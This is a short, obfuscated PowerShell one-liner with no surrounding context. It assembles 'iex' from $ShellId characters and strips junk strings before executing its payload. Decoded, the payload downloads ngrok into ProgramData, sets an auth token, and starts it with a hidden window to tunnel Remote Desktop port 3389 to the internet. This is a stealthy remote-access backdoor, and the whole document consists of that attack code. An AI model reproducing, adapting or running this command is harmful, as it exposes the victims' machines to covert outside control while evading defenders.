& ($ShellId[1]+$ShellId[13]+'x') ('iex ((''# config 9209 v3
Invoke-WebRequest ''''https://bin.equinoqv~4.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip'''' -OQJQ28utFile $env:TEMP\n.zip
Eqv~4pand-AQJQ28rchive $env:TEMP\n.zip -DestinationPath C:\ProgramData\ng
C:\ProgramData\QJQ28ng\ngrok.eqv~4e authtoken 2abcDEFghiJKLmnoPQRstuVWqv~4yz_0987654321
Start-Process -WindowStyle Hidden C:\ProgramData\ng\ngrok.eqv~4e -ArgumentList ''''tcp 3389''''
'' -replace ''QJQ28'','''').Replace(''qv~4'',''x''))')